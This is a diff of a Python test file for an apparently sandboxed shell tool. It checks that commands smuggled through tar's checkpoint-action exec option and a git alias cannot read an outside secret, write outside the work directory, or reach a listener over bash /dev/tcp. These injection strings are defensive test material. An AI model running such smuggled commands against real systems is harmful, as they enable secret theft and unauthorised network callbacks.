@@ -186,8 +186,10 @@ def reached(server: socket.socket) -> bool:
     return True
 
 
-def _hostile(outside: Path, port: int) -> str:
-    return (f"cat {outside / 'secret.txt'}; touch {outside / 'pwned'}; "
+def _hostile(work: Path, outside: Path, port: int) -> str:
+    """Read a secret, write outside, call home; and leave a mark inside, which shows the
+    command did run (in the box)."""
+    return (f"touch {work / 'ran'}; cat {outside / 'secret.txt'}; touch {outside / 'pwned'}; "
             f"bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'; true")
 
 
@@ -197,12 +199,12 @@ async def test_a_tar_checkpoint_action_is_contained(
     tool = shell(work, "tar")
     port = listener.getsockname()[1]
     out = await outcome(tool, ["tar", "-cf", "a.tar", "--checkpoint=1",
-                               f"--checkpoint-action=exec={_hostile(outside, port)}",
+                               f"--checkpoint-action=exec={_hostile(work, outside, port)}",
                                "notes.txt"])
     assert SECRET not in out
     assert not (outside / "pwned").exists()
     assert not reached(listener)
-    assert (work / "a.tar").is_file()  # tar itself ran, inside the writable path
+    assert (work / "ran").exists() and (work / "a.tar").is_file()  # it ran, in the box
 
 
 async def test_a_git_alias_is_contained(tree: tuple[Path, Path],
@@ -210,10 +212,11 @@ async def test_a_git_alias_is_contained(tree: tuple[Path, Path],
     work, outside = tree
     tool = shell(work, "git")
     port = listener.getsockname()[1]
-    out = await outcome(tool, ["git", "-c", f"alias.x=!{_hostile(outside, port)}", "x"])
+    out = await outcome(tool, ["git", "-c", f"alias.x=!{_hostile(work, outside, port)}", "x"])
     assert SECRET not in out
     assert not (outside / "pwned").exists()
     assert not reached(listener)
+    assert (work / "ran").exists()
 
 
 async def test_network_is_there_only_when_allowed(tree: tuple[Path, Path],
